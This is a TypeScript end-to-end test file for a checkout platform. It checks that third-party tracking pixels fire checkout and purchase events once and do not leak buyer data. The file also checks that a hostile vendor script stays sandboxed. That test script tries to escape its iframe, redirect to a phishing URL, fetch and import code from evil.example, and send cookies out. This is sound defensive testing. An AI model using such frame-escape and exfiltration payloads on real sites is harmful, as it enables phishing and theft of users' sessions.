import { aPerson } from '@balcao/server/demo/a-person'
import { anOffer, aProduct } from '@balcao/server/demo/an-offer'
import { replacePixels } from '@balcao/server/modules/tracking/replace-pixels'
import { inScope } from '@balcao/server/scope'
import { createTestServer, type TestServer } from '@balcao/server/test/test-server'
import type { Browser, BrowserContext, Page, Request } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openBrowser, visit } from './browser.ts'
import { fakeVendors, type Report, vendorScripts } from './fake-pixel-vendors.ts'
import { cardFields, fillCard } from './fill-card.ts'
import { fillCheckout } from './fill-checkout.ts'
import { logIn } from './log-in.ts'

let world: TestServer
let browser: Browser
let productId: string
let offerId: string

const facebook = '123456789012345'
const platformsFacebook = '999888777666555'

beforeAll(async () => {
  world = await createTestServer()
  browser = await openBrowser()
  await inScope(world.app, world.platformId, async (scope) => {
    const { id: sellerId } = await aPerson(scope)
    productId = (await aProduct(scope, { sellerId, name: 'Curso de pão' })).id
    offerId = (await anOffer(scope, { productId, priceCents: 19_700 })).id
    await replacePixels(scope, productId, [
      { vendor: 'facebook', pixelId: facebook },
      { vendor: 'tiktok', pixelId: 'C4A1B2C3D4E5F6G7H8I0' },
      { vendor: 'kwai', pixelId: '276061684888654' },
      { vendor: 'googleAnalytics', pixelId: 'G-ABCDEF1234' },
      { vendor: 'googleAds', pixelId: 'AW-123456789', conversionId: 'AbC-D_efG-h12_34' },
    ])
  })
})
afterAll(async () => {
  await browser?.close()
  await world?.stop()
})

const heading = (page: Page, name: string) => page.getByRole('heading', { name, level: 1 }).waitFor()
const reportOf = (page: Page, host: string, said: string) =>
  // The answer, not the request: only then has the vendor recorded the event.
  page.waitForResponse((response) => {
    const { hostname, searchParams } = new URL(response.url())
    return hostname === host && (searchParams.get('report') ?? '').includes(`"${said}"`)
  })
/** Waits for the reports of four vendors, each under its own name of the event. */
const everyReport = (page: Page, names: Record<string, string>) =>
  Promise.all(Object.entries(names).map(([host, name]) => reportOf(page, host, name)))
const saidBy = (reports: Report[], vendor: string, word: string) =>
  reports.filter((report) => report.vendor === vendor && report.said.includes(word)).map(({ said }) => said)

const checkoutOpened = {
  'www.facebook.com': 'InitiateCheckout',
  'analytics.tiktok.com': 'InitiateCheckout',
  's21-def.ap4r.com': 'initiatedCheckout',
  'www.google-analytics.com': 'begin_checkout',
}
const purchased = {
  'www.facebook.com': 'Purchase',
  'analytics.tiktok.com': 'CompletePayment',
  's21-def.ap4r.com': 'purchase',
  'www.google-analytics.com': 'conversion',
}

async function payByPix(page: Page): Promise<void> {
  await page.getByRole('button', { name: /com Pix/ }).click()
  await heading(page, 'Pague com Pix')
  await world.sandbox.bank.pay(await page.getByRole('textbox', { name: 'Pix copia e cola' }).inputValue())
  await world.sandbox.bank.webhooksDelivered()
  await world.drainJobs()
}

/** Everything in a request that a vendor could read, unescaped as often as it was escaped. */
async function wholeOf(request: Request): Promise<string> {
  const headers = await request.allHeaders()
  const url = new URL(request.url())
  return [url.href, decodeURIComponent(url.href), JSON.stringify(headers), request.postData() ?? ''].join(
    '\n',
  )
}

test("the staff enters the platform’s own pixel, which then gets every checkout's events", async () => {
  const { email } = await inScope(world.app, world.platformId, (scope) =>
    aPerson(scope, { roles: ['ADMIN'], permissions: ['isConfigAvailable'] }),
  )
  const { context, page, complaints } = await visit(browser, { width: 1440, height: 900 })
  await logIn(context, world.url, { door: 'ADMIN', email })
  await page.goto(`${world.url}/admin-root/platform-pixels`)
  await page.getByRole('button', { name: 'Adicionar pixel' }).click()
  await page.getByLabel('ID do pixel').fill(platformsFacebook)
  await page.getByRole('button', { name: 'Salvar' }).click()
  await page.getByText('Alterações salvas').first().waitFor()
  await page.reload()
  await page.locator(`input[value="${platformsFacebook}"]`).waitFor()
  expect(complaints).toEqual([])
  await context.close()
})

describe('the pixels of a product', () => {
  test('get the checkout and, once, the purchase; and no data of the buyer', async () => {
    const { context, page, complaints } = await visit(browser)
    const vendors = await fakeVendors(context)
    const opened = everyReport(page, checkoutOpened)
    await page.goto(
      `${world.url}/checkout/${offerId}?nome=Canária+Amarela&email=canaria%40compradora.example&utm_source=canario-utm`,
    )
    await opened
    await fillCheckout(page, { name: 'Canária Amarela', email: 'canaria@compradora.example' })
    const reported = everyReport(page, purchased)
    await payByPix(page)
    await reported
    await heading(page, 'Pagamento confirmado')

    const facts = { value: 197, currency: 'BRL', content_name: 'Curso de pão', content_type: 'product' }
    const [order] =
      await world.owner`select id from orders where offer_id = ${offerId} order by created_at desc limit 1`
    const reports = vendors.reports()
    expect(saidBy(reports, 'facebook', 'init')).toEqual([
      ['init', facebook],
      ['init', platformsFacebook],
      ['init', facebook],
      ['init', platformsFacebook],
    ])
    expect(saidBy(reports, 'facebook', 'InitiateCheckout')).toEqual([
      ['track', 'InitiateCheckout', { ...facts, content_ids: [productId] }, { eventID: expect.any(String) }],
    ])
    expect(saidBy(reports, 'facebook', 'Purchase')).toEqual([
      ['track', 'Purchase', { ...facts, content_ids: [productId] }, { eventID: order?.id }],
    ])
    expect(saidBy(reports, 'tiktok', 'CompletePayment')).toEqual([
      ['track', 'CompletePayment', { ...facts, content_id: productId }, { event_id: order?.id }],
    ])
    expect(saidBy(reports, 'kwai', 'purchase')).toHaveLength(1)
    expect(saidBy(reports, 'google', 'conversion')).toEqual([
      [
        'event',
        'conversion',
        { value: 197, currency: 'BRL', transaction_id: order?.id, send_to: 'AW-123456789/AbC-D_efG-h12_34' },
      ],
    ])
    expect(reports.filter(({ said }) => said.includes('keydown'))).toEqual([])
    const requests = (await Promise.all(vendors.requests.map(wholeOf))).join('\n')
    for (const canary of [
      /can[aá]ria/i,
      /canario-utm/,
      /98765.?4321/,
      /529.?982.?247/,
      /compradora/,
      /payment\//,
    ])
      expect(requests).not.toMatch(canary)
    expect(complaints).toEqual([])
    await context.close()
  })

  test('get the purchase only once: not after a reload, not in another tab, not with cleared storage', async () => {
    const { context, page } = await visit(browser)
    const vendors = await fakeVendors(context)
    await page.goto(`${world.url}/checkout/${offerId}`)
    await fillCheckout(page)
    const reported = everyReport(page, purchased)
    await payByPix(page)
    await reported
    await page.reload()
    await idle(page)
    expect(await page.locator('iframe').count()).toBe(0)
    const tab = await context.newPage()
    await tab.goto(page.url())
    await idle(tab)
    expect(await tab.locator('iframe').count()).toBe(0)
    await page.evaluate('localStorage.clear()')
    const answer = page.waitForResponse(/tracking\.announcePurchase/)
    await page.reload()
    expect(await (await answer).json()).toEqual({ result: { data: null } })
    expect(saidBy(vendors.reports(), 'facebook', 'Purchase')).toHaveLength(1)
    await context.close()
  })

  test('get an approved card purchase', async () => {
    const { context, page } = await visit(browser)
    await fakeVendors(context)
    await page.goto(`${world.url}/checkout/${offerId}`)
    await fillCheckout(page, { email: 'cartao@compradora.example' })
    await fillCard(page)
    const reported = everyReport(page, purchased)
    await cardFields(page).getByLabel('Nome impresso no cartão').press('Enter')
    await reported
    await context.close()
  })
})

test('no third party is contacted before the page is usable', async () => {
  const { context, page } = await visit(browser)
  const isUsable: boolean[] = []
  await context.route(/pixels\.localhost/, async (route) => {
    isUsable.push(await page.evaluate<boolean>('document.readyState === "complete"'))
    await route.continue()
  })
  await fakeVendors(context)
  const opened = everyReport(page, checkoutOpened)
  await page.goto(`${world.url}/checkout/${offerId}`)
  await opened
  expect(new Set(isUsable)).toEqual(new Set([true]))
  await context.close()
})

/** Tries to escape the frame, reports the results, and ends in an error. */
const hostile = `
  const outcome = {}
  const attempt = async (name, act) => {
    try { outcome[name] = String(await act()) } catch (error) { outcome[name] = 'refused' }
  }
  ;(async () => {
    await attempt('reads the page', () => parent.document.title)
    await attempt('reads its address', () => parent.location.href)
    await attempt('reads its storage', () => parent.sessionStorage.length)
    while (parent.length < 2) await new Promise((resolve) => setTimeout(resolve))
    await attempt('reads the card frame', () => parent[parent[0] === self ? 1 : 0].document.title)
    await attempt('leads the page away', () => { top.location.href = 'https://evil.example/phishing' })
    await attempt('opens a window', () => open('https://evil.example/') ?? refuse())
    await attempt('calls home', () => fetch('https://evil.example/steal'))
    await attempt('asks our server', () => fetch('/api/trpc/account.session').then(({ ok }) => ok || refuse()))
    await attempt('makes code', () => eval('1'))
    await attempt('loads more', () => import('https://evil.example/more.js'))
    alert('pague aqui')
    new Image().src = 'https://www.facebook.com/tr?report=' + encodeURIComponent(
      JSON.stringify({ said: ['done'], found: { ...outcome, cookie: document.cookie, referrer: document.referrer } }))
    throw new Error('bug')
  })()`

test('a hostile vendor cannot leave its frame, and the buyer pays', async () => {
  const { context, page } = await visit(browser)
  const vendors = await fakeVendors(context, (host) =>
    host === 'connect.facebook.net' ? hostile : (vendorScripts[host]?.source ?? ''),
  )
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.accept()
  })
  await page.goto(`${world.url}/checkout/${offerId}`)
  await fillCheckout(page, { email: 'atacada@compradora.example' })
  await page.getByRole('radio', { name: /Cartão/ }).check()
  await page.getByRole('radio', { name: /Pix/ }).press('Space')
  const lastReport = () => vendors.reports().find(({ said }) => said.includes('done'))
  await expect.poll(lastReport, { timeout: 30_000 }).toBeDefined()
  const report = lastReport()
  const { cookie, referrer, ...outcome } = report?.found ?? {}
  expect(new Set(Object.values(outcome)), JSON.stringify(outcome)).toEqual(new Set(['refused']))
  expect(Object.keys(outcome)).toHaveLength(10)
  expect({ cookie, referrer }).toEqual({ cookie: '', referrer: '' })
  expect(vendors.requests.filter((request) => request.url().includes('evil.example'))).toEqual([])
  expect(dialogs).toEqual([])
  expect(context.pages()).toHaveLength(1)
  await payByPix(page)
  await heading(page, 'Pagamento confirmado')
  await context.close()
})

const troubles: [name: string, cause: (context: BrowserContext) => Promise<unknown>][] = [
  ['never answer', (context) => fakeVendors(context, () => null)],
  ['throw', (context) => fakeVendors(context, () => 'throw new Error("bug")')],
  ['loop for ever', (context) => fakeVendors(context, () => 'for (;;);')],
  ['cannot be reached', (context) => context.route(/^https:/, (route) => route.abort())],
  ['have no frame to run in', (context) => context.route(/pixels\.localhost/, (route) => route.abort())],
]

test.for(troubles)('when vendors %s, a buyer pays and reaches the seller’s page', async ([, cause]) => {
  await world.owner`update products set thank_you_url = 'https://obrigada.example/curso' where id = ${productId}`
  const { context, page } = await visit(browser)
  await cause(context)
  await context.route('https://obrigada.example/**', (route) => route.fulfill({ body: 'Obrigada!' }))
  await page.clock.install({ time: world.clock.now() })
  await page.goto(`${world.url}/checkout/${offerId}`)
  await fillCheckout(page, { email: 'tranquila@compradora.example' })
  await payByPix(page)
  await page.waitForURL('https://obrigada.example/**')
  await context.close()
  await world.owner`update products set thank_you_url = null where id = ${productId}`
})

const idle = (page: Page) => page.evaluate('new Promise((resolve) => requestIdleCallback(resolve))')
